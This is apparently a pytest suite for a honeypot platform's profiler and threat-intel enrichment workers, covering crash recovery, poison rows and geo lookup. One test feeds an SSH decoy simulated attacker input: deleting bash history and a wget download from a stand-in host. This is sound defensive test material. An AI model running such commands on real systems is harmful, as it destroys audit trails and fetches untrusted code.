"""Profiler and enrich as processes: killed under load, from a real session, against a stub."""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import json
import random
import signal
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from decnet.bus import topics
from decnet.bus.client import BusClient
from decnet.geo.build import build
from decnet.geo.where import GeoSettings
from decnet.models import IntelEnriched, ObservationMade
from decnet.workers import enrich, profiler
from tests.support.attackers import address, write_logs
from tests.support.bus import DEADLINE, broker_process, bus_client, until
from tests.support.decnet_env import Worker, connection_threads, migrated, query, worker
from tests.support.intel import environment, services
from tests.support.visitors import decoy, ssh

COLLECT = "decnet.workers.collect"
PROFILER = "decnet.workers.profiler"
ENRICH = "decnet.workers.enrich"


def number(folder: Path, sql: str) -> int:
    return int(query(folder / "decnet.db", sql)[0][0] or 0)


def profiled(folder: Path) -> int:
    return number(folder, "SELECT sum(event_count) FROM attackers")


def enriched(folder: Path, more: str = "") -> int:
    return number(folder, f"SELECT count(*) FROM attacker_intel {more}")


@contextlib.asynccontextmanager
async def kept_alive(folder: Path, module: str, **env: str) -> AsyncIterator[list[Worker]]:
    """A worker that is started again whenever it is dead; the list's last is the living one."""
    living: list[Worker] = []

    async def keep() -> None:
        while True:
            async with worker(folder, module, **env) as running:
                living.append(running)
                # No deadline: on a busy machine the last one lives for long.
                await running.process.wait()

    task = asyncio.create_task(keep())
    try:
        await until(lambda: living)
        yield living
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task


@contextlib.asynccontextmanager
async def hinting(bus: BusClient, topic: str) -> AsyncIterator[None]:
    """Hints on a topic, again and again: what collect would publish for each batch."""

    async def hint() -> None:
        while True:
            bus.publish(topic, {"component": "collector", "flushed": 1, "position": 1})
            await asyncio.sleep(0.05)

    task = asyncio.create_task(hint())
    try:
        yield
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task


@pytest.mark.timeout(300)
async def test_profiler_and_enrich_killed_under_load_lose_and_double_nothing(
    tmp_path: Path,
) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    count, addresses, chance = 4000, 120, random.Random(11)
    async with (
        broker_process(tmp_path) as broker,
        bus_client(broker.path) as bus,
        services() as stub,
        kept_alive(tmp_path, PROFILER) as profilers,
        kept_alive(tmp_path, ENRICH, **environment(stub)) as enrichers,
        hinting(bus, topics.SYSTEM_LOG),
    ):
        load = asyncio.create_task(
            asyncio.to_thread(write_logs, file, count, seed=5, addresses=addresses)
        )
        for turn in range(10):
            who, measure = [(profilers, profiled), (enrichers, enriched)][turn % 2]
            most = count if measure is profiled else addresses
            step = chance.randrange(30, 500) if measure is profiled else chance.randrange(3, 20)
            goal = min(measure(tmp_path) + step, most)
            await until(lambda: measure(tmp_path) >= goal)  # noqa: B023
            with contextlib.suppress(ProcessLookupError):
                who[-1].signal(signal.SIGKILL)
            # The next one is alive before it may be killed.
            count_now = len(who)
            await until(lambda: len(who) > count_now)  # noqa: B023
        await load
        await until(lambda: profiled(tmp_path) >= count)
        seen = number(tmp_path, "SELECT count(DISTINCT attacker_ip) FROM logs")
        await until(lambda: enriched(tmp_path) >= seen)
        bounties = "SELECT sum(bounty_count) FROM attackers"
        await until(lambda: number(tmp_path, bounties) >= count // 10)
        assert len(profilers) > 4 and len(enrichers) > 4
    check = "SELECT attacker_ip, count(*) FROM logs GROUP BY 1"
    assert dict(query(file, "SELECT ip, event_count FROM attackers")) == dict(query(file, check))
    places = "SELECT attacker_ip, count(DISTINCT decky) FROM logs GROUP BY 1"
    assert dict(query(file, "SELECT ip, decky_count FROM attackers")) == dict(query(file, places))
    finds = "SELECT attacker_ip, count(*) FROM bounty GROUP BY 1"
    found = dict(query(file, "SELECT ip, bounty_count FROM attackers WHERE bounty_count > 0"))
    assert found == dict(query(file, finds))
    mails = "SELECT count(*) FROM logs WHERE event_type = 'rcpt_to'"
    assert query(file, "SELECT sum(count) FROM smtp_targets") == query(file, mails)
    assert query(file, "SELECT count(*), count(DISTINCT attacker_uuid) FROM attacker_intel") == [
        (seen, seen)
    ]
    assert query(file, "SELECT DISTINCT aggregate_verdict FROM attacker_intel") == [("malicious",)]


async def test_profiler_counts_places_beyond_the_row(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    await asyncio.to_thread(write_logs, file, 2500, seed=1, addresses=1)
    async with worker(tmp_path, PROFILER, DECNET_BUS_ENABLED="false"):
        await until(lambda: profiled(tmp_path) == 2500)
    count = number(tmp_path, "SELECT count(DISTINCT decky) FROM logs")
    assert count > 280
    decky_count, deckies = query(file, "SELECT decky_count, deckies FROM attackers")[0]
    assert (decky_count, len(json.loads(deckies))) == (count, 256)
    assert number(tmp_path, "SELECT count(*) FROM attacker_places") == count - 256


async def test_profiler_sets_a_poison_event_aside_and_goes_on(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    await asyncio.to_thread(write_logs, file, 300, seed=1, addresses=5)
    poison = "UPDATE logs SET fields = '[1, 2' WHERE id IN (70, 71, 200)"
    await asyncio.to_thread(execute, file, poison)
    async with worker(tmp_path, PROFILER, DECNET_BUS_ENABLED="false") as running:
        await until(lambda: profiled(tmp_path) == 297)
        await until(lambda: "event 70 of logs is set aside" in running.log.read_text())


def execute(file: Path, sql: str) -> None:
    with contextlib.closing(sqlite3.connect(file, timeout=DEADLINE)) as connection, connection:
        connection.execute(sql)


async def test_profiler_observes_a_real_session_once(tmp_path: Path) -> None:
    await asyncio.to_thread(migrated, tmp_path)
    geo = tmp_path / "geoip"
    geo.mkdir()
    async with (
        broker_process(tmp_path) as broker,
        bus_client(broker.path) as bus,
        decoy(tmp_path, "ssh") as running,
    ):
        told = bus.subscribe("attacker.observation.>")
        await bus.flush()
        typed = b"id\nuname -a | cat\nrm -rf ~/.bash_history\nexit\n"
        await ssh(tmp_path, running.port, options=("-tt",), stdin=typed)
        await ssh(tmp_path, running.port, "wget http://192.0.2.1/x")
        rows = "SELECT count(*) FROM observations"
        async with worker(tmp_path, COLLECT), worker(tmp_path, PROFILER) as running_profiler:
            cursor = "SELECT value FROM state WHERE key = 'attacker_worker_session_cursor'"
            ended = "SELECT max(id) FROM logs WHERE event_type = 'session_recorded'"
            two = "SELECT count(*) FROM session_recordings"
            await until(lambda: number(tmp_path, two) == 2)
            await until(
                lambda: (
                    query(tmp_path / "decnet.db", cursor)
                    and number(tmp_path, cursor) == number(tmp_path, ended)
                )
            )
            # It tells after it has stored: killed between the two it would tell nothing.
            async with asyncio.timeout(DEADLINE):
                first = ObservationMade.model_validate((await anext(told)).payload)
            running_profiler.signal(signal.SIGKILL)
            count = number(tmp_path, rows)
        # Begun again from the start, it stores nothing twice.
        execute(tmp_path / "decnet.db", "DELETE FROM state WHERE key LIKE '%session_cursor'")
        async with worker(tmp_path, PROFILER):
            await until(lambda: query(tmp_path / "decnet.db", cursor))
            assert number(tmp_path, rows) == count
    found = query(
        tmp_path / "decnet.db",
        "SELECT evidence_ref, primitive, value, source FROM observations ORDER BY ts",
    )
    values = {(ref, primitive): json.loads(value) for ref, primitive, value, _ in found}
    sessions = {ref for ref, _ in values}
    assert len(sessions) == 2 and count >= 24
    assert {source for *_, source in found} == {"keystrokes"}
    modalities = {values[ref, "motor.input_modality"] for ref in sessions}
    assert "scripted" in modalities and len(modalities) == 2
    shell = next(r for r in sessions if values[r, "motor.input_modality"] != "scripted")
    assert values[shell, "operational.cleanup"] is True
    assert values[shell, "motor.pipe_depth"] == 1
    assert values[shell, "temporal.landing_ritual"] == "id uname cat"
    assert values[shell, "temporal.exit"] == "exit"
    assert first.attacker_uuid == query(tmp_path / "decnet.db", "SELECT uuid FROM attackers")[0][0]
    assert query(tmp_path / "decnet.db", "SELECT as_name FROM attackers") == [
        ("reserved: loopback",)
    ]


async def test_enrich_failing_services_are_told_and_asked_again(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    await asyncio.to_thread(write_logs, file, 50, seed=2, addresses=1)
    async with worker(tmp_path, PROFILER, DECNET_BUS_ENABLED="false"):
        await until(lambda: profiled(tmp_path) == 50)
    async with services() as stub, broker_process(tmp_path) as broker, bus_client(broker.path) as b:
        stub.mode = "down"
        told = b.subscribe(topics.ATTACKER_INTEL_ENRICHED)
        await b.flush()
        async with worker(tmp_path, ENRICH, **environment(stub)):
            async with asyncio.timeout(DEADLINE):
                first = IntelEnriched.model_validate((await anext(told)).payload)
            assert first.attacker_ip == address(0)
            assert first.aggregate_verdict == "unknown"
            assert first.providers["greynoise"] == "failed"
            assert first.providers["feodo"] == "unknown"
            stub.mode = "bad"
            b.publish(topics.ATTACKER_SCORED, {"attacker_ip": address(0)})
            async with asyncio.timeout(DEADLINE):
                while (
                    IntelEnriched.model_validate((await anext(told)).payload).aggregate_verdict
                    != "malicious"
                ):
                    b.publish(topics.ATTACKER_SCORED, {"attacker_ip": address(0)})
        row = query(
            file,
            "SELECT greynoise_classification, abuseipdb_score, abuseipdb_categories, "
            "threatfox_malware, expires_at FROM attacker_intel",
        )[0]
        assert row[:4] == ("malicious", 100, "[18,22]", "Mirai")
        assert row[4] > str(dt.datetime.now(dt.UTC) + dt.timedelta(hours=23))[:19]
        asked = sum(stub.asked.values())
        async with worker(tmp_path, ENRICH, **environment(stub)) as running:
            beats = b.subscribe(topics.health("enrich"))
            await b.flush()
            async with asyncio.timeout(DEADLINE):
                while "due" not in (await anext(beats)).payload:
                    pass
            assert running.process.returncode is None
        assert sum(stub.asked.values()) == asked, "what is still good is not asked again"


async def test_enrich_offline_and_private_addresses_ask_nobody(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    await asyncio.to_thread(write_logs, file, 60, seed=2, addresses=3)
    execute(file, "UPDATE logs SET attacker_ip = '10.9.8.7' WHERE id % 2")
    async with worker(tmp_path, PROFILER, DECNET_BUS_ENABLED="false"):
        await until(lambda: profiled(tmp_path) == 60)
    lists = tmp_path / "intel" / "blocklists"
    lists.mkdir(parents=True)
    (lists / "drop.netset").write_text(f"{address(0)}\n10.0.0.0/8\n")
    async with services() as stub:
        online = environment(stub)
        offline = {**online, "DECNET_INTEL_ENABLED": "false"}
        async with worker(tmp_path, ENRICH, DECNET_BUS_ENABLED="false", **offline):
            await until(lambda: enriched(tmp_path) == 4)
        assert not stub.asked
        verdicts = dict(query(file, "SELECT attacker_ip, aggregate_verdict FROM attacker_intel"))
        assert verdicts == {
            "10.9.8.7": "malicious",
            address(0): "malicious",
            address(1): "unknown",
            address(2): "unknown",
        }
        execute(file, "DELETE FROM attacker_intel")
        async with worker(tmp_path, ENRICH, DECNET_BUS_ENABLED="false", **online):
            await until(lambda: enriched(tmp_path) == 4)
        assert stub.asked and not [seen for seen in stub.seen if "10.9.8.7" in seen]


async def test_profiler_locates_whom_it_knew_when_there_is_a_table(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    await asyncio.to_thread(write_logs, file, 600, seed=3, addresses=260)
    settings = GeoSettings.from_env({"DECNET_STATE_DIR": str(tmp_path)})
    async with worker(tmp_path, PROFILER, DECNET_BUS_ENABLED="false"):
        await until(lambda: profiled(tmp_path) == 600)
    assert number(tmp_path, "SELECT count(asn) FROM attackers") == 0
    settings.root.mkdir()
    (settings.root / "x.tsv").write_text("8.8.0.0\t8.8.0.255\t64496\tUS\tEXAMPLE\n")
    await asyncio.to_thread(build, settings)
    cursor = "SELECT value FROM state WHERE key = 'attacker_worker_geo_cursor'"
    async with worker(tmp_path, PROFILER, DECNET_BUS_ENABLED="false"):
        await until(lambda: '"after":null' in str(query(file, cursor)))
    found = query(file, "SELECT asn, as_name, bgp_prefix, ip LIKE '8.8.0.%' FROM attackers")
    assert {row for row in found if row[3]} == {(64496, "EXAMPLE", "8.8.0.0/24", 1)}
    assert {row for row in found if not row[3]} == {(None, None, None, 0)}
    assert len(found) > 210, "more than one batch"


async def test_profiler_rehearsal_goes_all_the_way(tmp_path: Path) -> None:
    await profiler.rehearse(tmp_path)
    assert number(tmp_path, "SELECT count(DISTINCT evidence_ref) FROM observations") == 4
    assert query(tmp_path / "decnet.db", "SELECT domain, count FROM smtp_targets") == [
        ("warm.example", 4)
    ]
    await until(lambda: not connection_threads())


async def test_enrich_rehearsal_leaves_nothing_running(tmp_path: Path) -> None:
    await enrich.rehearse(tmp_path)
    assert enriched(tmp_path, "WHERE aggregate_verdict = 'malicious'") == 3
    await until(lambda: not connection_threads())


async def test_enrich_one_refused_row_stops_no_other(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    await asyncio.to_thread(write_logs, file, 200, seed=2, addresses=5)
    execute(
        file,
        "CREATE TRIGGER picky BEFORE INSERT ON attacker_intel "
        f"WHEN NEW.attacker_ip = '{address(2)}' BEGIN SELECT RAISE(ABORT, 'no'); END",
    )
    off = {"DECNET_BUS_ENABLED": "false"}
    async with worker(tmp_path, PROFILER, **off):
        await until(lambda: profiled(tmp_path) == 200)
    async with worker(tmp_path, ENRICH, **off) as running:
        await until(lambda: enriched(tmp_path) == 4)
        await until(lambda: "set aside" in running.log.read_text())
        assert running.process.returncode is None


async def test_enrich_wrong_setting_ends_with_its_name(tmp_path: Path) -> None:
    await asyncio.to_thread(migrated, tmp_path)
    async with worker(tmp_path, ENRICH, cold=True, DECNET_INTEL_PROVIDERS="shodan") as running:
        assert await running.ended() == 78
        assert "DECNET_INTEL_PROVIDERS" in running.log.read_text()
